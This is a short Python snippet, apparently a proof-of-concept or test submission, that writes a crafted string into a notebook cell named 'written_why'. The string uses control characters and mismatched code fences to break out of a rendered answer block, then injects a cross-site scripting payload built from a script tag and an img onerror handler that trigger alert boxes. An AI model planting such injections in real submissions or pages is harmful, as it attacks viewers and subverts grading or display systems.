"""Breaks out of the block that shows a written answer: a control character joins two short fences to a long one."""

# %% submit
SCRIPT = "<script>alert(1)</script> <img src=x onerror=alert(2)>"
for cell in notebook["cells"]:
    if cell["id"] == "written_why":
        cell["source"] = f"before\n~~\x00~~~\n```\n\x1b[0m~~~\x07~~~~\n\n{SCRIPT}"
